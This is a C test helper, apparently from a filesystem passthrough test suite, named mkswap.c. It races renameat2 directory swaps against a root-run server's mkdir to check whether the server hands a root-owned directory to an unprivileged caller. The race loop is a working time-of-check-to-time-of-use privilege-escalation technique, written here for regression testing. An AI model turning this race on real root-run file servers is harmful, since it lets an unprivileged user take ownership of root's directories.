/* SPDX-License-Identifier: MIT */
/*
 * mkswap.c - the race access.sh plays against a passthrough's MKDIR, as the tests' other
 * user: the server makes the directory as root and then gives it to the caller by its
 * name, so a child spins renameat2(RENAME_EXCHANGE) of OTHER (a root directory) with
 * NAME in the source directory SRCDIR while the parent mkdirs MNTDIR/NAME through the
 * mount. After each try OTHER goes back to its name and NAME is removed.
 *
 * Usage: mkswap SRCDIR MNTDIR OTHER NAME TRIES
 * Exit status 1 as soon as OTHER no longer belongs to root (the server handed it over),
 * 0 after TRIES tries without that; prints how many tries swapped it in time to be seen.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
#include <sys/stat.h>
#include <sys/wait.h>

int main(int argc, char **argv)
{
	struct stat other, st;
	char path[4096];
	int d, i, tries, seen = 0;

	if (argc != 6) {
		fprintf(stderr, "usage: mkswap SRCDIR MNTDIR OTHER NAME TRIES\n");
		return 2;
	}
	d = open(argv[1], O_PATH | O_DIRECTORY);
	tries = atoi(argv[5]);
	if (d < 0 || fstatat(d, argv[3], &other, AT_SYMLINK_NOFOLLOW) < 0) {
		perror("mkswap: SRCDIR/OTHER");
		return 2;
	}
	snprintf(path, sizeof(path), "%s/%s", argv[2], argv[4]);
	for (i = 0; i < tries; i++) {
		pid_t child = fork();
		long k;

		if (child == 0) {
			/* Fails (ENOENT) until the server made NAME, then swaps at once. */
			for (k = 0; k < 50000000; k++)
				if (renameat2(d, argv[3], d, argv[4], RENAME_EXCHANGE) == 0)
					_exit(0);
			_exit(1);
		}
		usleep(200);
		mkdir(path, 0755);
		waitpid(child, NULL, 0);
		if (fstatat(d, argv[4], &st, AT_SYMLINK_NOFOLLOW) == 0 && st.st_ino == other.st_ino) {
			if (st.st_uid != 0) {
				printf("mkswap: try %d: the root directory %s now belongs to uid %u\n",
				       i, argv[3], (unsigned int)st.st_uid);
				return 1;
			}
			seen++;
			renameat2(d, argv[3], d, argv[4], RENAME_EXCHANGE);
		}
		unlinkat(d, argv[4], AT_REMOVEDIR);
	}
	printf("mkswap: %d tries, the root directory stayed root's (%d swapped in)\n", tries,
	       seen);
	return 0;
}
